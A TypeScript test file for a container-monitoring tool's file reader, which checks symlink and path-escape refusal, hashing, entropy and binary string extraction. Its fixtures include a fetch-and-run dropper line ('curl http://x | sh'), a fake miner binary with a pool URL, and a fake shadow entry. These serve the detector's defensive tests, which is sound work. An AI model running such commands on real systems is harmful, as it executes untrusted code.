// Reading a container file's facts: never through a link out of the layer, and the facts the
// rules need (hash, entropy, text or a binary's strings) within the limits.
import { randomBytes } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GONE, OUTSIDE } from '../../src/sources/files/contained-path.js';
import { readFileFacts } from '../../src/sources/files/read.js';

const limits = { scannable: true, contentLimitBytes: 1024, hashLimitBytes: 1 << 20 };
let dir: string;
let layer: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-read-'));
  layer = join(dir, 'upper');
  mkdirSync(join(layer, 'var/www'), { recursive: true });
  writeFileSync(join(dir, 'host-secret'), 'root:$6$host-hash:19000::::::\n');
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('readFileFacts', () => {
  it('refuses a symlink to a host file, and a path through a symlinked directory', async () => {
    symlinkSync(join(dir, 'host-secret'), join(layer, 'var/www/shell.php'));
    symlinkSync(dir, join(layer, 'var/www/up'));
    for (const path of [join(layer, 'var/www/shell.php'), join(layer, 'var/www/up/host-secret')]) {
      const result = await readFileFacts(path, layer, limits);
      expect(result).toEqual({ ok: false, reason: 'path leaves the container layer through a link' });
    }
    // Even a link that stays inside the layer is not followed: the link itself is what changed.
    writeFileSync(join(layer, 'var/www/real.php'), '<?php ?>');
    symlinkSync('real.php', join(layer, 'var/www/alias.php'));
    expect((await readFileFacts(join(layer, 'var/www/alias.php'), layer, limits)).ok).toBe(false);
  });

  it('hashes a text file and carries its content up to the limit', async () => {
    const path = join(layer, 'var/www/index.php');
    writeFileSync(path, `<?php echo "hi"; ?>\n${'x'.repeat(2000)}`);
    const result = await readFileFacts(path, layer, limits);
    if (!result.ok) throw new Error(result.reason);
    expect(result.facts).toMatchObject({ size: 2020, stat: { mode: '100644' }, truncated: true });
    expect(result.facts.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(result.facts.content).toHaveLength(1024);
    expect(result.facts.content!.startsWith('<?php echo "hi";')).toBe(true);
  });

  it('measures encrypted-looking content near 8 bits a byte, text far below', async () => {
    writeFileSync(join(layer, 'random.bin'), randomBytes(65536));
    writeFileSync(join(layer, 'notes.txt'), 'the quick brown fox jumps over the lazy dog\n'.repeat(500));
    const random = await readFileFacts(join(layer, 'random.bin'), layer, { ...limits, scannable: false });
    const text = await readFileFacts(join(layer, 'notes.txt'), layer, { ...limits, scannable: false });
    if (!random.ok || !text.ok) throw new Error('unreadable');
    expect(random.facts.entropy).toBeGreaterThan(7.9);
    expect(text.facts.entropy).toBeLessThan(5);
    // Not scannable: no text travels.
    expect(text.facts.content).toBeUndefined();
  });

  it("gives an executable binary's printable strings, and a script's text whatever its name", async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64), Buffer.from('stratum+tcp://pool.example:3333\0short\0--donate-level=1\0')]);
    writeFileSync(join(layer, 'kworker'), elf);
    chmodSync(join(layer, 'kworker'), 0o755);
    writeFileSync(join(layer, 'update'), '#!/bin/sh\ncurl http://x | sh\n');
    const binary = await readFileFacts(join(layer, 'kworker'), layer, { ...limits, scannable: false });
    const script = await readFileFacts(join(layer, 'update'), layer, { ...limits, scannable: false });
    if (!binary.ok || !script.ok) throw new Error('unreadable');
    expect(binary.facts.strings).toBe('stratum+tcp://pool.example:3333\n--donate-level=1');
    expect(binary.facts.content).toBeUndefined();
    expect(script.facts.content).toBe('#!/bin/sh\ncurl http://x | sh\n');
  });

  it('does not hash a file over the hash limit', async () => {
    writeFileSync(join(layer, 'big.log'), Buffer.alloc(4096, 0x61));
    const result = await readFileFacts(join(layer, 'big.log'), layer, { ...limits, hashLimitBytes: 1000 });
    if (!result.ok) throw new Error(result.reason);
    expect(result.facts.sha256).toBeUndefined();
    expect(result.facts.size).toBe(4096);
  });

  it('refuses a path climbing out of the layer with `..`', async () => {
    // Built by hand: join() would resolve the `..` away.
    expect(await readFileFacts(`${layer}/var/../../host-secret`, layer, limits)).toEqual({ ok: false, reason: OUTSIDE });
  });

  it('reports a directory and a fifo with their mode alone, without waiting for a writer', async () => {
    execFileSync('mkfifo', [join(layer, 'var/pipe')]);
    const fifo = await readFileFacts(join(layer, 'var/pipe'), layer, limits);
    const directory = await readFileFacts(join(layer, 'var/www'), layer, limits);
    expect(fifo).toEqual({ ok: true, facts: { size: 0, stat: expect.objectContaining({ mode: expect.stringMatching(/^10[0-7]{3}$/) }) } });
    expect(directory).toEqual({ ok: true, facts: { size: expect.any(Number), stat: expect.objectContaining({ mode: expect.stringMatching(/^40[0-7]{3}$/) }) } });
  });

  it('says a file deleted between its event and its reading is gone, and does not throw', async () => {
    const path = join(layer, 'var/www/upload.tmp');
    writeFileSync(path, 'soon gone');
    unlinkSync(path);
    expect(await readFileFacts(path, layer, limits)).toEqual({ ok: false, reason: GONE });
    // Its whole directory gone too.
    mkdirSync(join(layer, 'var/cache'));
    writeFileSync(join(layer, 'var/cache/entry'), 'x');
    rmSync(join(layer, 'var/cache'), { recursive: true });
    expect(await readFileFacts(join(layer, 'var/cache/entry'), layer, limits)).toEqual({ ok: false, reason: GONE });
  });
});
